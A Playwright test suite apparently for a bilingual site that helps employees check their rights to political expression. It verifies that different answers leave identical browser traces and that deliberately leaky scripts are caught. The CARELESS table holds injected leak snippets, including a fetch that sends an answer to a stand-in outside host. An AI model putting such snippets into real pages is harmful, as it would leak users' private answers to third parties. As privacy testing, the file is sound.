"""Whatever a person answers, a journey looks the same to everybody else.

The same journey is made with different answers, as many of them, and everything that it leaves is
compared: see leaks.py.  What may differ is said here and nowhere else: the answers themselves,
in the tab's own storage, while the page of the checker is away.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.e2e.checker_page import LANGS, START, CheckerPage
from tests.e2e.journeys import EMPLOYEE, QUIET
from tests.e2e.leaks import Left, Recorder, differences
from tests.e2e.learn_page import Practice
from tests.e2e.offline_block import Block
from tests.e2e.server import SiteServer

pytestmark = pytest.mark.by_turn("lang")

# Where answers are kept while the page is away: away.js and keeper.js.
AWAY = "running-assessment"


@dataclass(frozen=True)
class Person:
    """Answers to two activities, a draft with what is made of it, and a choice in the practice."""

    first: dict[str, str]
    second: str
    draft: str
    confirmed: dict[str, str]
    practised: str


# Both are asked six screens for the first activity and one for the second: how many there were is
# the one thing that the history of a tab shows.  Only the first meets a source not read in full.
PEOPLE = {
    "within their rights": Person(
        first={"act": "share", **EMPLOYEE, **QUIET},
        second="vote",
        draft="Proud to be voting NDP on Monday! / Fière de voter NPD lundi!",
        confirmed={"act": "post", "target": "party"},
        practised="your_right",
    ),
    "stopped": Person(
        first={"act": "post", **EMPLOYEE, **QUIET, "who": "very_part", "target": "ref_other"}
        | {"where": "break_away", "content": "symbols"},
        second="colleague",
        draft="First snow, and the Liberal Party is a disgrace. / Le Parti libéral est une honte.",
        confirmed={"act": "post", "target": ""},
        practised="not_open",
    ),
}


def walk(person: Person, browser: Browser, server: SiteServer, lang: str, folder: Path) -> Recorder:
    """Do everything that can be done with answers, in both languages."""
    with visit(browser) as page:
        seen = Recorder(page.context, server)
        checker = CheckerPage(page, server.url, lang)
        assess_and_keep(checker, person, seen, folder)
        leave_and_return(checker, seen)
        switch_and_clear(checker, seen)
        open_again(checker, seen, folder)
        read_a_draft(checker, person, seen)
        practise(Practice(page, server.url, checker.lang), person, seen)
        keep_the_site(Block(page, checker.lang), person, seen)
    return seen


@contextmanager
def visit(browser: Browser) -> Iterator[Page]:
    """A browser that nothing was ever opened in."""
    context = browser.new_context(service_workers="allow")
    context.set_default_timeout(START)
    context.add_init_script("window.print = () => {}; Math.random = () => 0;")
    yield context.new_page()
    context.close()


def assess_and_keep(checker: CheckerPage, person: Person, seen: Recorder, folder: Path) -> None:
    page = checker.open_from_home().page
    page.wait_for_load_state("networkidle")
    seen.moment("the first question", page)
    # Once the engine is there, nothing that is still on its way counts for a later moment.
    checker.next.focus()
    expect(checker.form.locator(".question__ready")).to_have_text(checker.say("status.ready"))
    checker.step(person.first)
    seen.moment("the first answer", page)
    checker.complete(person.first)
    checker.result.wait_for()
    seen.moment("the result", page)
    for form in ("page", "text", "data"):
        with page.expect_download() as download:
            checker.press(f"record.forms.{form}")
        seen.saved(download.value.suggested_filename)
        download.value.save_as(folder / form)
    checker.press("record.forms.print")
    seen.moment("kept and printed", page)
    checker.press("result.another")
    checker.showing("act")
    checker.complete({"act": person.second})
    checker.press("result.compare.other", count=2)
    page.locator(".compare").wait_for()
    seen.moment("the comparison", page)


def leave_and_return(checker: CheckerPage, seen: Recorder) -> None:
    page = checker.page
    page.locator(".foot a:not([lang])").first.click()
    page.locator(".assess").wait_for(state="detached")
    page.wait_for_load_state("networkidle")
    without_answers(seen.moment("another page", page))
    page.go_back()
    page.locator(".compare").wait_for()
    page.wait_for_load_state("networkidle")
    seen.moment("the return", page)


def without_answers(left: Left) -> None:
    """Leave out what may be kept while the page of the checker is away; nothing else is there."""
    assert [name for name, _ in left["session"]] == [AWAY]
    left["session"] = []


def switch_and_clear(checker: CheckerPage, seen: Recorder) -> None:
    checker.switch_language()
    checker.page.locator(".compare").wait_for()
    checker.page.wait_for_load_state("networkidle")
    seen.moment("the other language", checker.page)
    checker.press("kept.clear_all")
    checker.showing("act")
    seen.moment("all cleared", checker.page)


def open_again(checker: CheckerPage, seen: Recorder, folder: Path) -> None:
    with checker.page.expect_file_chooser() as chooser:
        checker.page.locator(".ways__open").click()
    chooser.value.set_files(folder / "data")
    checker.result.wait_for()
    seen.moment("a record opened", checker.page)
    checker.press("kept.clear_all")
    checker.showing("act")


def read_a_draft(checker: CheckerPage, person: Person, seen: Recorder) -> None:
    page = checker.page
    checker.press("ways.describe")
    page.locator(".describe__box").fill(person.draft)
    checker.press("describe.read")
    page.locator(".describe__mark").first.wait_for()
    seen.moment("a draft read", page)
    for fact, choice in person.confirmed.items():
        row = page.locator(f"input[name='{fact}'][value='{choice}']")
        page.locator(".describe__proposals .choice", has=row).click()
    checker.press("describe.use")
    checker.showing("who")
    seen.moment("its proposals used", page)
    checker.press("kept.clear_all")
    checker.showing("act")


def practise(practice: Practice, person: Person, seen: Recorder) -> None:
    practice.open()
    practice.page.wait_for_load_state("networkidle")
    practice.begin("workplace")
    seen.moment("a case to practise", practice.page)
    practice.choose(person.practised)
    practice.go_on.click()
    seen.moment("a choice in the practice", practice.page)


def keep_the_site(block: Block, person: Person, seen: Recorder) -> None:
    page = block.page
    checker = CheckerPage(page, seen.server.url, block.lang).open()
    checker.complete(person.first)
    block.keep()
    checker.press("result.another")
    checker.showing("act")
    checker.complete({"act": person.second})
    seen.moment("kept for offline use", page)
    block.press("remove")
    block.is_now("removed")
    checker.press("kept.clear_all")
    checker.showing("act")
    seen.moment("taken away", page)


@pytest.mark.parametrize("lang", LANGS)
def test_whatever_is_answered_a_whole_journey_leaves_the_same(
    browser: Browser, site_server: SiteServer, tmp_path: Path, lang: str
) -> None:
    one, other_one = (
        walk(person, browser, site_server, lang, tmp_path).moments for person in PEOPLE.values()
    )

    found = differences(one, other_one)
    assert found == [], "\n".join(found)


def careless(action: str) -> str:
    """A script that does something with each answer, and then says that it has."""
    return f"""addEventListener("change", async ({{target: {{value}}}}) => {{
      await ({action});
      document.documentElement.dataset.leaked = "";
    }});"""


# What a careless page could do with an answer, and the channel where it must be seen.
CARELESS = {
    "asks with it": ("fetch(`index.html?${value}`)", "requests"),
    "asks for one answer only": ("value === 'coverage' && fetch('index.html')", "requests"),
    "sends it": ("fetch('index.html', {method: 'POST', body: value})", "requests"),
    "names it in a header": ("fetch('index.html', {headers: {about: value}})", "requests"),
    "refers to it": (
        "fetch('index.html', {referrer: `?${value}`, referrerPolicy: 'unsafe-url'})",
        "requests",
    ),
    "tells another site": ("fetch(`https://other.invalid/${value}`).catch(() => 0)", "console"),
    "puts it into the address": ("history.replaceState(null, '', `#${value}`)", "address"),
    "puts it into the history": ("history.replaceState({value}, '')", "history"),
    "makes a step for it": ("value === 'coverage' && history.pushState(null, '')", "history"),
    "titles the page with it": ("document.title = value", "title"),
    "names the window after it": ("window.name = value", "name"),
    "sets a cookie": ("document.cookie = `of=${value}`", "cookies"),
    "sets a hidden cookie": ("cookieStore.set({name: value, value, path: '/x'})", "all cookies"),
    "stores it": ("localStorage.setItem('of', value)", "local"),
    "stores it for the tab": ("sessionStorage.setItem('of', value)", "session"),
    "keeps it in a cache": (
        "caches.open('of').then(one => one.put('index.html', new Response(value)))",
        "caches",
    ),
    "names a database after it": (
        "new Promise(done => { indexedDB.open(value).onsuccess = done; })",
        "databases",
    ),
    "says it aloud": ("console.debug(value)", "console"),
}


@pytest.mark.by_turn("action", one_in=3)
@pytest.mark.parametrize("action", CARELESS)
def test_a_page_that_gives_an_answer_away_is_caught(
    browser: Browser, site_server: SiteServer, action: str
) -> None:
    script, channel = CARELESS[action]
    found = []
    for answer in ("coverage", "workplace"):
        with visit(browser) as page:
            page.add_init_script(careless(script))
            seen = Recorder(page.context, site_server)
            Practice(page, site_server.url, "en").open().row(answer).click()
            page.locator("html[data-leaked]").wait_for(state="attached")
            seen.moment("an answer", page)
            found.append(seen.moments)

    assert [each for each in differences(*found) if each.startswith(f"an answer, {channel}:")] != []
